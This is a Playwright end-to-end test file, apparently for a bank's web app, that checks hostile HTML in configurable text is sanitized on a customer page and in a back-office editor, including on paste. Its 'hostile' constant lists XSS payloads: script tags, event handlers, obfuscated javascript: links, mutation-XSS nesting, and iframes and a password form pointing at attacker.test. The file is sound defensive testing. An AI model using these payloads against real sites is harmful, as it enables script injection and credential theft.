import type { Browser, Page } from 'playwright-core';
import { closePages, openBrowser } from '../support/browser.js';
import { ClerkPages } from '../support/clerk-pages.js';
import { StubbedCustomer } from '../support/stub/stubbed-customer.js';

/** What somebody might write into a formatted text, after a harmless word that stays. */
const hostile = [
  '<b id="harmless">Willkommen</b>',
  '<script>window.attacked = true</script>',
  '<img src="x" onerror="window.attacked = true">',
  '<svg onload="window.attacked = true"><a xlink:href="javascript:attack()"><text>Bild</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src="x" onerror="window.attacked = true"></style></mglyph></table></mtext></math>',
  '<a href="javascript:attack()" onclick="attack()" style="position:fixed;inset:0" target="_blank">Link</a>',
  '<a href="java&#10;script:attack()">Zeilenumbruch</a><a href="//attacker.test">ohne Protokoll</a>',
  '<a href="data:text/html,<script>attack()</script>">Daten</a>',
  '<iframe src="https://attacker.test"></iframe><object data="https://attacker.test"></object>',
  '<form action="https://attacker.test"><input name="password"><button>Anmelden</button></form>',
  '<p style="background:url(https://attacker.test)" class="MuiBackdrop-root" data-x="1">Absatz</p>',
].join('');

/** What is dangerous in the elements that contain the harmless word; the styles of the apps are classes of the outer one. */
function dangerIn(page: Page, container: string): Promise<readonly string[]> {
  return page
    .locator(container)
    .filter({ hasText: 'Willkommen' })
    .last()
    .evaluate((outer) => {
      const elements = /^(?:p|br|b|strong|i|em|u|ul|ol|li|h2|h3|h4|div|span|a)$/i;
      const address = /^(?:https?:\/\/|mailto:|tel:|\/(?!\/)|#)/i;
      return [...outer.querySelectorAll('*')].flatMap((element) => [
        ...(elements.test(element.tagName) ? [] : [element.tagName.toLowerCase()]),
        ...[...element.attributes].flatMap(({ name, value }) =>
          name === 'rel' || (name === 'href' && address.test(value)) ? [] : [`${name}=${value}`],
        ),
      ]);
    });
}

/**
 * Whether the page has run the code or asked a foreign address. The policy's messages say nothing: the browser writes
 * them for the copy, too, in which DOMPurify looks for what it removes.
 */
function watchAttack(page: Page): () => Promise<boolean> {
  let isForeign = false;
  page.on('request', (request) => (isForeign ||= request.url().includes('attacker.test')));
  return async () => isForeign || (await page.evaluate(() => 'attacked' in window));
}

describe('hostile HTML in a text of the bank', () => {
  let browser: Browser;

  beforeAll(async () => {
    browser = await openBrowser();
  });
  afterEach(() => closePages(browser));
  afterAll(() => browser.close());

  test('is found where nothing cleans it, and attacks', async () => {
    const page = await (await browser.newContext()).newPage();
    const wasAttacked = watchAttack(page);
    await page.setContent(`<main>${hostile}</main>`);
    const danger = await dangerIn(page, 'main');
    for (const sign of ['script', 'img', 'iframe', 'form', 'svg', 'href=javascript:attack()', 'onclick=attack()'])
      expect(danger).toContain(sign);
    expect(await wasAttacked()).toBe(true);
  });

  test('is harmless on a page of the customer', async () => {
    const customer = await StubbedCustomer.open(browser, { token: null });
    const wasAttacked = watchAttack(customer.page);
    customer.case.configuration = { introduction: { preHtml: hostile } };
    await customer.goto('/start/produkte/vergleich');
    await customer.page.getByText('Willkommen', { exact: true }).waitFor();
    expect(await dangerIn(customer.page, 'main span')).toEqual([]);
    expect(await wasAttacked()).toBe(false);
  });

  test('is harmless in the preview and in the field of the back office, also when it is pasted', async () => {
    const clerk = await ClerkPages.loggedIn(browser, 'ROLE_INSTANCE_ADMIN');
    const { page } = clerk;
    const wasAttacked = watchAttack(page);
    await page.route(/\/api\/settings(\?|$)/, async (route) => {
      const response = await route.fetch();
      const settings = (await response.json()) as { name: string; value: unknown }[];
      const option = { key: 'k', label: 'Fremder Text', active: true, editable: true, longText: hostile };
      const value = { active: true, mehrwerte: [option] };
      await route.fulfill({
        response,
        json: settings.map((one) => (one.name === 'mehrwerte' ? { ...one, value } : one)),
      });
    });
    await clerk.goto('/bm/start?ansicht=Mehrwerte#Konfiguration');
    await clerk.button('Fremder Text').click();
    const field = page.getByRole('textbox', { name: 'Langtext', exact: true });
    await field.getByText('Willkommen').waitFor();
    expect(await dangerIn(page, '[contenteditable]')).toEqual([]);
    await page.locator('summary').first().click();
    expect(await dangerIn(page, 'details > div')).toEqual([]);
    await field.evaluate((element, html) => {
      element.replaceChildren();
      element.focus();
      const clipboardData = new DataTransfer();
      clipboardData.setData('text/html', html);
      element.dispatchEvent(new ClipboardEvent('paste', { clipboardData, bubbles: true, cancelable: true }));
    }, hostile);
    await field.getByText('Willkommen').waitFor();
    expect(await dangerIn(page, '[contenteditable]')).toEqual([]);
    expect(await wasAttacked()).toBe(false);
  });
});
